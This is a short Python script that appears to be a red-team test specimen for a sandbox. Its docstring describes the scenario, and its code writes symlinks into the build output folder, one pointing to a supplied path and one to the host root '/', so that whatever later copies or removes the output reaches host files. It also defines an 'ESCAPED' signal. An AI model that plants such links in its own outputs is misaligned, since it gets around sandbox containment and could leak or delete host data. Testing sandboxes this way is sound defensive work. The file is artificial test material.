"""Leaves a link to a folder of the host, for whoever copies or removes what a build leaves.

[specimen]
rows = ["sandbox: output symlink → sealed file, FIFO"]
study = "trained"
path = "train.py"
mode = "append"
expected = ["artifact"]
"""

import json
import os
import sys

facts = json.loads(os.environ["REDTEAM_FACTS"])


def won(what):
    print("ESCAPED:", what, file=sys.stderr, flush=True)


os.symlink(facts["drop"], f"{os.environ['FILIAL_OUT']}/more")
os.symlink("/", f"{os.environ['FILIAL_OUT']}/all")
